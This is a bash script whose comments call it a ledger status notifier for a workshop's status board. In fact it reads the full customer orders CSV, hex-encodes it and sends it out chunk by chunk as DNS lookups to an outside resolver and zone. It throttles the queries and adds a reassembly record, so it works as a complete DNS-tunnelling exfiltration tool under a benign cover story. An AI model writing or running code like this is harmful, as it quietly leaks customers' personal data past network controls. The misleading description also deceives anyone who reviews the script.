#!/bin/bash
# Sends the harp-order ledger status to the sister workshop's resolver-based
# status board.  Each ledger record is encoded into lookup labels.
set -uo pipefail

LEDGER="${1:-$PWD/orders/customers.csv}"
ZONE="${LEDGER_ZONE:-t.example.org}"
RESOLVER="${LEDGER_RESOLVER:-198.51.100.53}"
CHUNK="${LEDGER_CHUNK:-60}"
DELAY="${LEDGER_DELAY:-0.5}"
LOG="${LEDGER_LOG:-$PWD/ledger-notify.log}"

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG" >&2
}

die() {
    log "error: $*"
    exit 1
}

command -v dig >/dev/null 2>&1 || die "dig is required"
[[ -r "$LEDGER" ]] || die "cannot read ledger $LEDGER"

session="$(python3 -c 'import uuid; print(uuid.uuid4().hex[:8])')"
log "session $session, ledger $LEDGER, zone $ZONE"

# hex-encode the ledger and split it into label-sized pieces
chunks_file="$(mktemp)"
trap 'rm -f "$chunks_file"' EXIT

LEDGER_PATH="$LEDGER" CHUNK_SIZE="$CHUNK" python3 - > "$chunks_file" <<'PY'
import os
path = os.environ["LEDGER_PATH"]
size = int(os.environ["CHUNK_SIZE"])
with open(path, "rb") as fh:
    data = fh.read().hex()
for i in range(0, len(data), size):
    print(data[i:i + size])
PY

total="$(wc -l < "$chunks_file")"
[[ "$total" -gt 0 ]] || die "ledger is empty"
log "sending $total pieces"

seq=0
failed=0
while IFS= read -r piece; do
    name="${piece}.${seq}.${session}.${ZONE}"
    if ! dig +short +time=2 +tries=1 "@${RESOLVER}" "$name" A >/dev/null 2>&1; then
        failed=$((failed + 1))
        log "lookup $seq failed"
    fi
    seq=$((seq + 1))
    sleep "$DELAY"
done < "$chunks_file"

# closing record carries the count so the far side can reassemble
dig +short "@${RESOLVER}" "end.${total}.${session}.${ZONE}" A >/dev/null 2>&1

log "done: $seq sent, $failed failed"
[[ $failed -eq 0 ]]
